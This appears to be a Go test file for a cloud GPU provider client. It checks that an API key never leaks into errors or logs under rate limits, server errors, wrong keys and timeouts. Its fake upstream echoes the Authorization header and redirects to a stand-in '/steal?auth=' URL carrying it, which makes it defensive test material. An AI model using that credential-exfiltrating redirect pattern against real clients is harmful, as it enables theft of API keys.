package lambda_test

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/crabbox/crabbox-runner/providers/lambda"
	"github.com/crabbox/crabbox-runner/providers/lambda/lambdatest"
	"github.com/crabbox/crabbox-runner/provisioner"
)

// The API key appears in no error and no log line, whatever goes wrong:
// refused keys, rate limits, server errors, an upstream that echoes the
// request's headers back, redirects, a server that is gone.
func TestAPIKeyNeverInErrorsOrLogs(t *testing.T) {
	const key = "secret_NEVER_PRINT_THIS_lambda_key_0123456789"
	logs := &logBuffer{}
	fake := lambdatest.New(t, lambdatest.Options{APIKey: key})
	p := newProvider(t, fake, logs)
	ctx := context.Background()
	var errs []error
	collect := func(err error) {
		if err == nil {
			t.Error("expected an error")
			return
		}
		errs = append(errs, err)
	}

	// Rate limits past the retries, server errors with and without
	// bodies, a launch without capacity, an unknown instance.
	fake.FailNext(20, lambdatest.Fault{Status: 429, Body: "slow down"})
	_, err := p.Offers(ctx, a100)
	collect(err)
	fake.ClearFaults()
	fake.FailNext(20, lambdatest.Fault{Status: 503, Body: `{"error":{"code":"provider/internal-unavailable","message":"Provider unavailable"}}`})
	_, err = p.ListOwned(ctx, "acme-gpu")
	collect(err)
	fake.ClearFaults()
	offers, err := p.Offers(ctx, a100)
	if err != nil {
		t.Fatal(err)
	}
	fake.NoCapacity("gpu_1x_a100_sxm4", offers[0].Region)
	_, err = p.Create(ctx, createRequest(t, offers[0], a100, "acme-gpu", "l1"))
	collect(err)
	_, err = p.Get(ctx, "0000")
	collect(err)

	// A wrong key, and an upstream that puts the request's Authorization
	// header into its error page.
	wrong, _ := lambda.New(lambda.Options{APIURL: fake.URL(), APIKey: key + "x", MinRequestInterval: -1, Retry: fastRetry})
	_, err = wrong.Offers(ctx, a100)
	collect(err)
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/api/v1/ssh-keys" {
			http.Redirect(w, r, "http://127.0.0.2:1/steal?auth="+r.Header.Get("Authorization"), http.StatusFound)
			return
		}
		w.WriteHeader(http.StatusBadGateway)
		w.Write([]byte("<html>upstream said: Authorization: " + r.Header.Get("Authorization") + "</html>"))
	}))
	defer echo.Close()
	leaky := newProvider(t, fake, logs, func(o *lambda.Options) { o.APIURL = echo.URL })
	_, err = leaky.Offers(ctx, a100)
	collect(err)
	_, err = leaky.Client().SSHKeys(ctx)
	collect(err)
	echo.Close()
	_, err = leaky.Offers(ctx, a100)
	collect(err)
	// A cancelled context while waiting out a rate limit.
	fake.FailNext(5, lambdatest.Fault{Status: 429})
	slow := newProvider(t, fake, logs, func(o *lambda.Options) {
		o.Retry = lambda.RetryPolicy{InitialInterval: time.Hour, MaxInterval: time.Hour}
	})
	cctx, cancel := context.WithTimeout(ctx, 50*time.Millisecond)
	defer cancel()
	_, err = slow.Offers(cctx, a100)
	collect(err)
	// Errors in the configuration.
	_, err = lambda.New(lambda.Options{APIURL: "http://example.com/?key=" + key, APIKey: key})
	collect(err)

	if len(errs) != 10 {
		t.Fatalf("collected %d errors", len(errs))
	}
	for _, err := range errs {
		if strings.Contains(err.Error(), key) || strings.Contains(err.Error(), "NEVER_PRINT") {
			t.Errorf("an error shows the key: %v", err)
		}
	}
	if l := logs.String(); strings.Contains(l, "NEVER_PRINT") || !strings.Contains(l, "lambda: retrying") {
		t.Errorf("logs show the key, or lack the retries that would have shown it:\n%s", l)
	}
	var ae *lambda.APIError
	if !errors.As(errs[5], &ae) || !strings.Contains(ae.Message, "[REDACTED]") {
		t.Errorf("the echoed header was not redacted: %v", errs[5])
	}
	if !errors.Is(errs[2], provisioner.ErrOfferUnavailable) {
		t.Errorf("capacity: %v", errs[2])
	}
}
